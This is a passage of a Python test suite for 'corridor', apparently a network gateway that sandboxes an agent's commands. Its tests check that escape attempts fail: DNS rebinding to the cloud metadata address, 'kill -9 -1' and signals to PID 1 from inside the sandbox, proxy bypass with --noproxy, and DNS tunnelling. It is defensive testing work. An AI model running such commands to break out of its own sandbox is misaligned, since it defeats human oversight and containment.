    def __init__(self, lab: Lab, factory, home: Path) -> None:
        super().__init__()
        self.lab = lab
        self.factory = factory
        self.home = home

    def __missing__(self, key: str) -> Batch:
        base = self.factory.mktemp(f"escape-{key}")
        env: dict[str, str | None] = {}
        args: tuple[str, ...]
        if key == "web":
            attempts, args = WEB, WEB_POLICY
            env = {"HOME": str(self.home), **SECRET_ENV}
        elif key == "internal":
            attempts, args = INTERNAL, INTERNAL_POLICY
        elif key == "audit":
            policy = base / "audit.yaml"
            policy.write_text(
                "version: 1\nmode: audit\nallow:\n  - host: metadata.test\n  - host: private.test\n"
            )
            attempts, args = AUDIT, ("--policy", str(policy))
        else:
            policy = base / "limits.yaml"
            policy.write_text(
                "version: 1\nallow:\n  - host: allowed.test\n"
                f"limits:\n  max_connections: {MAX_CONNECTIONS}\n"
                f"  max_bytes_out: {MAX_BYTES_OUT}\n"
            )
            attempts, args = LIMITS, ("--policy", str(policy))
        batch = run_batch(self.lab, base, attempts, args, env)
        self[key] = batch
        return batch


TABLE = [
    *(("web", a) for a in WEB),
    *(("internal", a) for a in INTERNAL),
    *(("audit", a) for a in AUDIT),
    *(("limits", a) for a in LIMITS),
]
ALLOWED_NAMES = {
    "web": WEB_NAMES,
    "internal": set(INTERNAL_NAMES),
    "audit": {"metadata.test", "private.test", "denied.test"},
    "limits": {"allowed.test"},
}


@pytest.mark.parametrize(("batch", "attempt"), TABLE, ids=[a.name for _, a in TABLE])
def test_escape_attempt_fails(
    batch: str, attempt: Attempt, batches: dict[str, Batch], host_services: Path
) -> None:
    b = batches[batch]
    o = b.outcomes[attempt.name]
    report = f"out:\n{o.out}\nerr:\n{o.err}"
    # Inside: every way tried was closed.
    assert "ESCAPED" not in o.out, report
    assert "BLOCKED" in o.out, report
    # Outside: nothing reached the world but what the attempt was allowed to reach.
    assert o.catchall == [], o.catchall
    assert {r["host"] for r in o.http} <= set(attempt.world_hosts), o.http
    for q in o.dns:
        assert q["type"] in ("A", "AAAA"), q
        assert q["name"] in ALLOWED_NAMES[batch], q
        assert TUNNEL[:20] not in q["name"], q
    assert host_services.read_text() == "", "a host service was reached"
    # The gateway said why.
    if attempt.reason is not None:
        reasons = [e.get("reason") or "" for e in o.refusals()]
        assert any(attempt.reason in r for r in reasons), reasons
    if attempt.after is not None:
        time.sleep(0.2)
        assert running(attempt.after) == []


def test_the_whole_batches_left_no_trace(batches: dict[str, Batch]) -> None:
    for key in ("web", "internal", "audit", "limits"):
        b = batches[key]
        assert b.catchall == [], (key, b.catchall)
        assert b.returncode == 0, (key, b.stderr)


def test_the_byte_cap_held_across_the_session(batches: dict[str, Batch]) -> None:
    conns = [e for e in batches["limits"].events if e.get("kind") == "conn"]
    assert sum(e.get("bytes_up") or 0 for e in conns) <= MAX_BYTES_OUT


def test_audit_mode_still_lets_policy_denials_through(batches: dict[str, Batch]) -> None:
    """The control for the audit batch: audit mode is on, so only addresses were refused."""
    events = batches["audit"].events
    start = next(e for e in events if e.get("kind") == "session_start")
    assert start["data"]["policy"]["mode"] == "audit"


def test_rebinding_name_never_reaches_the_rebound_address(lab: Lab, tmp_path: Path) -> None:
    """rebind.test answers 203.0.113.60 and 169.254.169.254 by turns: two sessions (each
    resolves once) see both answers; only the public one is ever dialled."""
    results = []
    with lab.capture() as cap:
        for n in range(2):
            ws = tmp_path / f"ws{n}"
            ws.mkdir()
            r = lab.run(
                [*_corridor(tmp_path / "state", ws), "--allow", "rebind.test", "--",
                 "curl", "-sS", "-m", "10", "-o", "/dev/null", "-w", "%{http_code}",
                 "http://rebind.test/"],
                cwd=str(ws),
            )  # fmt: skip
            results.append(r.stdout.strip())
    assert cap.catchall() == []
    assert sorted(results) == ["200", "403"], results
    assert [q["host"] for q in cap.http_requests()] == ["rebind.test"]
    asked = [q for q in cap.dns_queries() if q["name"] == "rebind.test" and q["type"] == "A"]
    assert len(asked) == 2
    log = lab.run([*CORRIDOR_LOG, "--json", "--state-dir", str(tmp_path / "state")]).stdout
    assert "169.254.169.254 is the cloud metadata address" in log


def test_signalling_everything_inside_never_reaches_the_gateway(lab: Lab, tmp_path: Path) -> None:
    """`kill -9 -1`, and SIGKILL/SIGSTOP to PID 1, from inside: the gateway is in no
    namespace the agent can signal, and PID 1 ignores them; the gateway keeps serving."""
    ws = tmp_path / "ws"
    ws.mkdir()
    script = (
        "kill -9 -1; kill -9 1; kill -STOP 1; sleep 0.2; "
        "curl -sS -m 10 http://allowed.test/; curl -sS -m 5 http://denied.test/ -o /dev/null "
        "-w '%{http_code}\\n'"
    )
    with lab.capture() as cap:
        r = lab.run([*_corridor(tmp_path / "state", ws), "--allow", "allowed.test", "--",
                     "sh", "-c", script], cwd=str(ws), timeout=30)  # fmt: skip
    assert r.returncode == 0, r.stderr
    assert r.stdout.splitlines() == ["hello from allowed.test", "403"]
    assert [q["host"] for q in cap.http_requests()] == ["allowed.test"]
    assert cap.catchall() == []


def test_killing_corridor_ends_the_command_and_says_why(lab: Lab, tmp_path: Path) -> None:
    """Fail closed: SIGKILL of corridor (the gateway dies with it) ends the command within
    a second."""
    ws = tmp_path / "ws"
    ws.mkdir()
    marker = "sleep 62.4681"
    p = lab.popen([*_corridor(tmp_path / "state", ws), "--", "sh", "-c", f"echo ready; {marker}"],
                  cwd=str(ws))  # fmt: skip
    assert p.stdout is not None and p.stdout.readline().strip() == "ready"
    time.sleep(0.2)
    p.kill()
    _, err = p.communicate(timeout=10)
    assert p.returncode != 0
    deadline = time.monotonic() + 1.0
    while running(marker) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert running(marker) == []
    # PID 1 says why when it sees the control socket close before --die-with-parent's
    # SIGKILL reaches it; which comes first is a race, so the words are not required.
    assert err == "" or "gateway gone; command ended (no network)" in err, err


BAD_POLICIES = {
    "not YAML": "version: 1\nallow: [\n",
    "unknown field": "version: 1\nallow:\n  - host: allowed.test\n    prots: [443]\n",
    "wrong version": "version: 2\nallow:\n  - host: allowed.test\n",
    "missing extends": "version: 1\nextends: [./nowhere.yaml]\n",
    "broad rule without broad: true": "version: 1\nallow:\n  - host: '*.test'\n",
}


@pytest.mark.parametrize("text", BAD_POLICIES.values(), ids=BAD_POLICIES.keys())
def test_a_policy_that_fails_to_load_never_runs_the_command(
    lab: Lab, tmp_path: Path, text: str
) -> None:
    ws = tmp_path / "ws"
    ws.mkdir()
    policy = ws / "policy.yaml"
    policy.write_text(text)
    with lab.capture() as cap:
        r = lab.run(
            [*_corridor(tmp_path / "state", ws), "--policy", str(policy), "--",
             "sh", "-c", "touch ran; curl -sS -m 5 http://allowed.test/"],
            cwd=str(ws),
        )  # fmt: skip
    assert r.returncode == 2, r.stderr
    assert r.stderr.startswith("corridor: error: ")
    assert not (ws / "ran").exists()
    assert cap.http_requests() == [] and cap.dns_queries() == [] and cap.catchall() == []


def test_no_policy_means_no_access(lab: Lab, tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    ws.mkdir()
    with lab.capture() as cap:
        r = lab.run(
            [*_corridor(tmp_path / "state", ws), "--", "sh", "-c",
             "curl -sSf -m 5 http://allowed.test/; echo rc=$?; "
             "curl -sSf -m 5 --noproxy '*' http://allowed.test/; echo rc=$?"],
            cwd=str(ws),
        )  # fmt: skip
    assert r.returncode == 0
    assert "rc=0" not in r.stdout
    assert cap.http_requests() == [] and cap.dns_queries() == [] and cap.catchall() == []


CORRIDOR_LOG = [sys.executable, "-m", "corridor", "log"]


def _corridor(state: Path, ws: Path) -> list[str]:
    from tests.lab.config import CORRIDOR_LAB_FLAGS

    return [sys.executable, "-m", "corridor", "run", *CORRIDOR_LAB_FLAGS,
            "--state-dir", str(state), "--workspace", str(ws)]  # fmt: skip
